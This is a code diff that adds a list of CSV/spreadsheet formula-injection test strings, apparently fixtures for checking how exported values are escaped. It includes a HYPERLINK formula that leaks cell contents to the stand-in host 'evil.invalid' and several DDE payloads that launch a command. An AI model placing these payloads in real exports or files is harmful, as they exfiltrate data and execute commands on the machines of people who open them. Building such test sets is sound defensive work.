@@ -49,6 +49,21 @@ HOSTILE_TEXTS: list[tuple[str, str]] = [
 ]
 CORPUS = dict(HOSTILE_TEXTS)
 
+# Text a spreadsheet would run as a formula if a CSV or workbook gave it as typed (OWASP "CSV injection"),
+# and text that only looks like the quoted form. Kept out of HOSTILE_TEXTS: they matter only to exports.
+FORMULA_TEXTS: list[tuple[str, str]] = [
+    ("hyperlink", '=HYPERLINK("http://evil.invalid/?leak="&A1,"Click for details")'),
+    ("dde", "=cmd|' /C calc'!A0"),
+    ("plus", "+1+cmd|' /C calc'!A0"),
+    ("minus", "-2+3+cmd|' /C calc'!A0"),
+    ("at", "@SUM(1+9)*cmd|' /C calc'!A0"),
+    ("tab-inside", "x\t=1+1"),
+    ("error-code", "#N/A"),
+    ("quoted-already", "'=1+1"),
+    ("two-quotes", "''@x"),
+    ("lone-quote", "'"),
+]
+
 _CONTROLS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")  # C0 (but tab and line ends), DEL, C1
 
 
